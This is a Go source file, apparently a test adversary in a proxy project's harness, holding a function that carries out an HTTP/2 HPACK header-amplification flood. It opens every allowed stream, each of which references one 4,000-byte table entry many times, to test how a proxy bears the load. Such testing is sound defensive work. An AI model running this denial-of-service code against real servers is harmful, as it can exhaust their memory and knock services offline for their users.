package adversary

import (
	"bytes"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"

	"github.com/gatewright/gatewright/generators/limits"
	"github.com/gatewright/gatewright/test/harness"
)

// Flood opens as many streams as a connection may have and leaves them open until the proxy has read them all. Each
// refers many times to one large header, which HPACK writes in a byte.
func Flood(address, authority, path string, references int) (net.Conn, error) {
	conn, err := net.Dial("tcp", address)
	if err != nil {
		return nil, err
	}
	_ = conn.SetDeadline(time.Now().Add(harness.DefaultTimeout)) // A closed one says so at once.
	framer := http2.NewFramer(conn, conn)
	var request bytes.Buffer
	literal := func(index byte, value string) {
		request.WriteByte(index)
		request.WriteByte(byte(len(value)))
		request.WriteString(value)
	}
	request.Write([]byte{0x83, 0x86}) // POST, http
	literal(0x04, path)
	literal(0x01, authority)
	request.Write([]byte{0x0f, 0x10})
	request.WriteString("\x10application/grpc")
	request.WriteString("\x00\x02te\x08trailers")
	first := bytes.Clone(request.Bytes())
	// A header for the table: its length of 4,000 is 127 and 3,873 more.
	first = append(first, "\x40\x05x-big\x7f\xa1\x1e"+strings.Repeat("x", 4000)...)
	again := append(bytes.Clone(request.Bytes()), bytes.Repeat([]byte{0xbe}, references)...)

	// A proxy may end the connection while this is written; what it has kept is looked at all the same.
	_, _ = conn.Write([]byte(http2.ClientPreface))
	_ = framer.WriteSettings()
	_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: first, EndHeaders: true})
	for i := 1; i < limits.Default.Streams; i++ {
		_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: again, EndHeaders: true})
	}
	_ = framer.WritePing(false, [8]byte{'r', 'e', 'a', 'd'})
	for {
		frame, err := framer.ReadFrame()
		if err != nil {
			return conn, nil
		}
		if ping, ok := frame.(*http2.PingFrame); ok && ping.IsAck() {
			return conn, nil
		}
	}
}
